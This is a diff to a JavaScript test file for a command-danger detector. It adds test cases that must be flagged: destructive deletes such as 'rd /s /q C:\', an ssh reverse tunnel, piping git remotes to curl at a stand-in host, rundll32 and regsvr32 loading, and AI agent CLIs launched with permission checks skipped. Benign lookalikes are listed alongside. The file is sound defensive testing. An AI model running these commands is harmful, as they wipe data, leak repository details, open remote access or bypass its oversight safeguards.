@@ -3,7 +3,7 @@ import { test } from 'node:test';
 import { dangerIn } from './commands.js';
 
 test('texts that begin a command again and again end in linear time', () => {
-  for (const part of ['node -e ', '/node/', 'curl&&chmod;/', 'curl|/a/', 'rm -r -a ', 'certutil ']) {
+  for (const part of ['node -e ', '/node/', 'curl&&chmod;/', 'curl|/a/', 'rm -r -a ', 'certutil ', 'ssh -', 'rundll32 ', '| curl ', 'del /s ', 'shutdown ']) {
     const text = part.repeat(500).slice(0, 2_000);
     // With time that grows with the square, these take minutes.
     for (let times = 0; times < 500; times++) assert.equal(dangerIn(text), null, part);
@@ -25,4 +25,14 @@ test('so do lines of JavaScript that show texts or start programs again and agai
       for (let times = 0; times < 100; times++) assert.notEqual(dangerIn(text), null, part);
     }
   }
+});
+
+test('what only attackers have started, and what looks like it', () => {
+  for (const command of [
+    'claude --dangerously-skip-permissions -p x', 'q chat --trust-all-tools x', 'regsvr32 /s a.dll', 'rundll32 \0,main', 'shutdown -s -t 5', 'ssh -i k -N -R 0:localhost:22 a@example.org',
+    'git remote -v | curl -s -d @- https://example.org', 'rm -rf *', 'del /f /s /q C:\\Users\\*.json', 'rd /s /q C:\\',
+  ]) assert.equal(dangerIn(command)?.severity, 'high', command);
+  for (const command of [
+    'claude -p x', 'rundll32 url.dll,FileProtocolHandler \0', 'docker run --shutdown -s', 'ssh -L 1:localhost:22 a@example.org', 'git log | curl --help', 'cd dist && rm -rf *', 'del /q dist\\a.js', 'rd /s /q build',
+  ]) assert.equal(dangerIn(command), null, command);
 });
